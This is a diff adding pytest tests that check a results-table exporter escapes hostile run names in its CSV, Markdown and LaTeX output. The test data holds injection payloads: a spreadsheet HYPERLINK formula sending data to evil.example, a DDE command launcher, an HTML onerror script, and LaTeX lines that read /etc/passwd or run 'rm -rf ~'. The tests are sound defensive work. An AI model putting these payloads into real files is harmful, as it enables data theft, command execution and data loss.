@@ -224,3 +224,65 @@ def test_unreadable_results_and_manifests_are_refused(tmp_path, rng):
     (tmp_path / MANIFEST).write_text(json.dumps({"format": "aidge_incremental sweep", "version": 9, "cells": []}))
     with pytest.raises(TableError, match="version 9"):
         collect_runs([tmp_path])
+
+
+# -- hostile names reach the three formats neutralised ------------------------------------------
+
+def _sweep_of(tmp_path, rng, rows, protocol=None):
+    """A sweep's folder whose manifest names the given rows (one finished cell each)."""
+    cells = []
+    for i, row in enumerate(rows):
+        name = f"cell{i}"
+        write_run(tmp_path / name, "lwf", 0, rng)
+        config = json.loads((tmp_path / name / "results.json").read_text())["config"]
+        cells.append({"name": name, "row": row, "protocol": protocol or {}, "config": config})
+    (tmp_path / MANIFEST).write_text(json.dumps({"format": "aidge_incremental sweep", "version": 1, "cells": cells}))
+    return ResultTable(collect_runs([tmp_path]))
+
+
+@pytest.mark.filterwarnings("ignore:Glyph .* missing from font")  # the runs' own plots, of the hostile names
+def test_csv_cells_are_never_formulas(tmp_path, rng):
+    rows = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+            "-5", "plain"]
+    table = _sweep_of(tmp_path, rng, rows, protocol={"=cmd": "x"})
+    lines = list(csv.reader(table.csv().splitlines()))
+    assert [line[0] for line in lines[1:]] == [
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)",
+        "-5", "plain"], "a formula is text; a number stays a number"
+    assert {line[1] for line in lines[1:]} == {"'=cmd=x"}
+    assert all(not cell.startswith(("=", "+", "@")) for line in lines for cell in line)
+    # the numbers keep their sign: forgetting may be negative
+    assert all(float(v) == float(v) for line in lines[1:] for v in line[4:] if v)
+    # a tab or a carriage return first (runs outside a sweep: their method names the row)
+    write_run(tmp_path / "loose" / "a", "\tcmd", 0, rng)
+    write_run(tmp_path / "loose" / "b", "\r=1+1", 0, rng)
+    lines = list(csv.reader(__import__("io").StringIO(ResultTable(collect_runs([tmp_path / "loose"])).csv())))
+    assert [line[0] for line in lines[1:]] == ["' cmd", "' =1+1"], "and one line: a lone CR is not quoted"
+
+
+def test_markdown_rows_stay_one_row_of_the_table(tmp_path, rng):
+    write_run(tmp_path / "r0", "evil|col\n| injected | row |", 0, rng)
+    write_run(tmp_path / "r1", "a\\|b <img src=x onerror=alert(1)>", 0, rng)
+    md = ResultTable(collect_runs([tmp_path])).markdown().split("\n\n")[0].splitlines()
+    assert len(md) == 2 + 2, "one line per row"
+    assert md[2].startswith(r"| evil\|col \| injected \| row \| | ")
+    assert md[3].startswith(r"| a\\\|b \<img src=x onerror=alert(1)> | ")
+    for line in md:  # as many cells as the header: no | but the separators unescaped
+        assert len(__import__("re").findall(r"(?<!\\)\|", line.replace("\\\\", ""))) == 4 + 1
+
+
+def test_latex_stays_in_its_cells_and_its_comment(tmp_path, rng):
+    for seed in (0, 1):
+        write_run(tmp_path / f"r{seed}", "[3cm]x\n\n\\input{/etc/passwd}", seed, rng,
+                  dataset="digits\n\\immediate\\write18{rm -rf ~}")
+    tex = ResultTable(collect_runs([tmp_path])).latex()
+    assert r"{[}3cm{]}x  \textbackslash{}input\{/etc/passwd\} & $" in tex
+    assert not any(line.lstrip().startswith("\\input") or line.lstrip().startswith("\\immediate")
+                   for line in tex.splitlines())
+    assert tex.splitlines()[-1].startswith("% ") and "write18" in tex.splitlines()[-1], "all of the note in its comment"
+
+
+def test_a_manifest_row_or_protocol_with_a_control_character_is_refused(tmp_path, rng):
+    for protocol, row in (({}, "lwf\n| x |"), ({"memory": "20\r"}, "lwf")):
+        with pytest.raises(TableError, match=r"cell cell0: its row or protocol holds a control character"):
+            _sweep_of(tmp_path, rng, [row], protocol)
